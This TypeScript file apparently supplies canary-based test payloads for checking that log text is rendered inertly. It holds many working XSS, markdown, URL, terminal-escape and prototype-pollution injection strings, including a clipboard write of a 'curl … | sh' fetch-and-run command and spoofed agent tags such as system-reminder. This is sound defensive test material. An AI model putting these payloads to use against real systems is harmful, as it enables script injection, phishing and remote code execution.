// Ways in which words of a log have been made to act: as markup, as an address, as a terminal command, as an object. Each
// calls the canary or asks for something at the canary's host if it is ever taken for more than words.

/** What an attack would do if it worked. */
export interface Canary {
  /** A call of the execution canary. */
  readonly js: string
  /** An address at the network canary. */
  readonly url: string
}

export type Technique = (canary: Canary) => string

/** The canary with this number. The host cannot exist. */
export const canary = (n: number): Canary => ({
  js: `window.__pwned(${n})`,
  url: `https://canary.invalid/${n}`
})

const ESC = '\u001b'

const MARKUP: readonly Technique[] = [
  ({ js }) => `<script>${js}</script>`,
  ({ url }) => `<script src="${url}/a.js"></script>`,
  ({ js }) => `</script></style></textarea></title><script>${js}</script>`,
  ({ js }) => `<img src=x onerror=${js}>`,
  ({ js }) => `"><img src=x onerror="${js}">`,
  ({ js }) => `' autofocus tabindex=1 onfocus='${js}`,
  ({ js }) => `<svg onload=${js}><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  ({ js }) => `<details open ontoggle=${js}>x</details>`,
  ({ js }) => `<input autofocus onfocus=${js}>`,
  ({ js }) => `<b onmouseover=${js} onclick=${js} onpointerenter=${js}>hover</b>`,
  ({ js }) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  ({ js }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  ({ js }) => `<div><template shadowrootmode=open><img src=x onerror=${js}></template></div>`,
  ({ js }) => `&lt;img src=x onerror=${js}&gt;`,
  ({ js }) => `<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=${js}>x</b>`,
  ({ js }) => `<form action="javascript:${js}"><button>Sign in</button></form>`,
  ({ js }) => `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
  ({ js }) => `<a href="java\tscript:${js}">x</a><a href="&#106;avascript:${js}">x</a>`,
  ({ url }) =>
    `<img src="${url}/a.png" srcset="${url}/b.png 2x"><video poster="${url}/c.png" src="${url}/d.mp4">`,
  ({ url }) => `<link rel=stylesheet href="${url}/a.css"><link rel=prefetch href="${url}/b">`,
  ({ url }) => `<style>@import "${url}/a.css"; *{background:url(${url}/b.png)}</style>`,
  ({ url }) => `<b style="background:url(${url}/c.png);position:fixed;inset:0">x</b>`,
  ({ url }) => `<meta http-equiv=refresh content="0;url=${url}/r"><base href="${url}/">`,
  ({ url }) => `<svg><image href="${url}/i.png"/><use href="${url}/u.svg#x"/></svg>`,
  ({ url }) =>
    `<astro-island component-url="${url}/i.js" renderer-url="${url}/r.js" client="load"></astro-island>`,
  () => '<a id=__pwned></a><a id=trustedTypes></a><form name=body><input name=firstChild></form>',
  ({ url }) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}/s"]}]}</script>`
]

const MARKDOWN: readonly Technique[] = [
  ({ js }) => `[click](javascript:${js})`,
  ({ js }) => `[click](<java\tscript:${js}>) [two][r]\n\n[r]: javascript:${js}`,
  ({ js }) => `<javascript:${js}>`,
  ({ js }) => `[click](data:text/html;base64,${btoa(`<script>opener.${js}</script>`)})`,
  ({ url }) => `![a picture](${url}/p.png) ![by reference][p]\n\n[p]: ${url}/q.png "title"`,
  ({ url }) => `[https://github.com/login](${url}/phish) [user@host](https://github.com@canary.invalid/x)`,
  ({ js }) => `![x](x"onerror="${js}) [x](https://example.com/"onmouseover="${js})`,
  ({ js }) => `\`\`\`html" onmouseover="${js}\n<script>${js}</script>\n\`\`\``,
  ({ js }) =>
    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${js}>"]-->B; click A href "javascript:${js}"\n\`\`\``,
  ({ js }) => `$$\\href{javascript:${js}}{x}\\htmlData{onclick=${js}}{y}$$`,
  ({ js }) =>
    `| <img src=x onerror=${js}> | [x](javascript:${js}) |\n|---|---|\n| <script>${js}</script> | x |`,
  ({ js }) => `# <img src=x onerror=${js}>\n\n- [ ] <svg/onload=${js}>\n\n> <b onclick=${js}>x</b>`,
  ({ js }) => `<system-reminder><img src=x onerror=${js}></system-reminder>`,
  ({ js }) => `<command-name>/x"><img src=x onerror=${js}></command-name>`,
  ({ js }) => `{{constructor.constructor('${js}')()}} \${${js}} <%= ${js} %>`
]

const ADDRESSES: readonly Technique[] = [
  ({ js }) => `javascript:${js}`,
  ({ js }) => ` \n\tJaVaScRiPt:${js}`,
  ({ js }) => `data:text/html,<script>opener&&opener.${js}</script>`,
  ({ js }) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="opener.${js}"/>`,
  ({ url }) => `${url}/slot.png`,
  () => '//canary.invalid/x',
  () => '\\\\canary.invalid\\x',
  () => 'https://g\u0456thub.com/login',
  () => 'file:///etc/passwd',
  () => 'blob:https://canary.invalid/00000000-0000-4000-8000-000000000000'
]

const TERMINAL: readonly Technique[] = [
  ({ js }) => `${ESC}]8;;javascript:${js}${ESC}\\click${ESC}]8;;${ESC}\\`,
  ({ js }) => `${ESC}]8;;https://example.com/"onmouseover="${js}\u0007click${ESC}]8;;\u0007`,
  ({ url }) => `${ESC}]8;;${url}/osc\u0007https://github.com${ESC}]8;;\u0007`,
  ({ js }) => `<im${ESC}[31mg src=x oner${ESC}[0mror=${js}>`,
  ({ js }) => `${ESC}[38;2;1;2;"><img src=x onerror=${js}>m`,
  ({ js }) => `${ESC}]0;<img src=x onerror=${js}>\u0007${ESC}]1337;File=inline=1:PHN2Zz4=\u0007`,
  ({ url }) => `${ESC}]52;c;${btoa(`curl ${url}|sh`)}\u0007${ESC}]9;${url}\u0007`,
  () => `${ESC}[999999999C${ESC}[999999999Bx${ESC}[999999999b`,
  () => `evil\rgood ${ESC}[8mconcealed${ESC}[0m gone${ESC}[2K`
]

const LETTERS: readonly Technique[] = [
  () => 'invoice-\u202egpj.exe',
  () => 'pass\u200bword\u2060\ufeff',
  () => `a\u0000b\u0007c\u007f ${'\u0301'.repeat(300)}`,
  () => `x\ud83d \udc00 ${String.fromCodePoint(0xe0041, 0xe0042)}`,
  () => '__proto__',
  () => 'constructor'
]

export const TECHNIQUES: readonly Technique[] = [
  ...MARKUP,
  ...MARKDOWN,
  ...ADDRESSES,
  ...TERMINAL,
  ...LETTERS
]

/** For places that hold an object: hostile keys, properties of frameworks, types that do not fit. */
export const OBJECTS: readonly ((canary: Canary) => unknown)[] = [
  ({ js }) =>
    JSON.parse(
      `{"__proto__":{"polluted":1,"innerHTML":"<img src=x onerror=${js}>"},"constructor":{"prototype":{"polluted":1}}}`
    ),
  ({ js }) => ({
    innerHTML: `<img src=x onerror=${js}>`,
    'prop:innerHTML': `<img src=x onerror=${js}>`,
    'on:click': js,
    ref: js
  }),
  ({ js, url }) => ({
    onclick: js,
    style: { backgroundImage: `url(${url}/s.png)` },
    class: 'fixed inset-0',
    src: `${url}/s.png`
  }),
  ({ js }) => JSON.parse(`{"then":"${js}","toString":"x","valueOf":1,"toJSON":"${js}","length":4294967295}`),
  ({ js }) => ({ [`<img src=x onerror=${js}>`]: 'v', [`"onmouseover="${js}`]: 'v', '': 1, '\u0000': 2 }),
  ({ js }) => ({
    command: { toString: js },
    file_path: [`<img src=x onerror=${js}>`],
    old_string: 1,
    content: null
  })
]
